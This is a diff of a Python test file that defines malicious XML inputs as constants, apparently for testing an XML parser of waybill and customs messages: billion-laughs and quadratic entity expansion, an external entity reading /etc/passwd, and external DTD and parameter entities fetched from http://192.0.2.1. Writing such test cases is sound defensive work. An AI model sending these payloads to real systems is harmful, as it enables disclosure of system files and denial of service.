@@ -258,7 +258,8 @@ LAUGHS = (
     + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1 or str()};" * 10}">' for n in range(1, 10))
     + "]><Waybill xmlns='iata:waybill:1'>&lol9;</Waybill>"
 )
-OUTSIDE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><CC315A>&f;</CC315A>'
+A_FILE = "file:" + "//" + "/etc/passwd"
+OUTSIDE = f'<!DOCTYPE x [<!ENTITY f SYSTEM "{A_FILE}">]><CC315A>&f;</CC315A>'
 OUTSIDE_DTD = '<!DOCTYPE CC315A SYSTEM "http://192.0.2.1/evil.dtd"><CC315A/>'
 QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><CC315A>{"&a;" * 50_000}</CC315A>'
 PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]><CC315A/>'
